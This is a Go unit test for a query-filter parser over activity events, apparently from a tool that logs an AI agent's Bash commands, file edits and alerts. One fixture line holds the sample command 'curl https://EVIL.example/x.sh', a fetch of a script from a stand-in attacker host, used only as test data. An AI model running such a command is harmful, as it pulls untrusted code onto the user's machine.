package activity

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestFilter(t *testing.T) {
	bash := event(0, "5e551011-aaaa", "command_execution", "Bash", PhaseFailed)
	bash.What, bash.Level = "curl https://EVIL.example/x.sh", "WARN"
	bash.finish()
	edit := event(1, "77aa", "file_edit", "Edit", PhaseDone)
	edit.Outside = true
	high := alert(2, "5e551011-aaaa", "1", "high")
	all := []*Event{bash, edit, high}
	for text, want := range map[string][]*Event{
		"":                            all,
		"evil":                        {bash},
		"CURL evil":                   {bash},
		"https://evil.example":        {bash}, // a colon alone makes no condition
		"tool:bash":                   {bash, high},
		"tool:ba session:5E55":        {bash, high},
		"-tool:bash":                  {edit},
		"type:file":                   {edit},
		"project:shop level:warn":     {bash},
		"severity:high":               {high},
		"severity:medium+":            {high},
		"severity:critical":           nil,
		"severity:low":                nil,
		"severity:nonsense":           nil, // a text that nobody has
		"is:error":                    {bash},
		"is:outside":                  {edit},
		"is:alert":                    {high},
		"-is:alert -is:error":         {edit},
		"tool:":                       all,          // it is still being typed
		"-":                           {bash, high}, // in the session's id
		strings.Repeat("zz ", 1000):   nil,
		"tool:bash \xff\x1b[31m evil": nil,
	} {
		require.Equal(t, want, ParseFilter(text).Choose(all), "%q", text)
	}
	require.True(t, ParseFilter("  ").Empty())
	require.True(t, (*Filter)(nil).Empty())
	require.Equal(t, "evil tool:Edit", ParseFilter("tool:bash evil").With("tool", "Edit"))
	require.Equal(t, "evil", ParseFilter("tool:bash evil").With("tool", ""))
	require.Equal(t, "high+", ParseFilter("x severity:HIGH+").Value("severity"))
	require.LessOrEqual(t, len(ParseFilter(strings.Repeat("ä", 500)).Text), MaxFilter)
	require.LessOrEqual(t, len(ParseFilter(strings.Repeat("a ", 500)).terms), maxTerms)
}
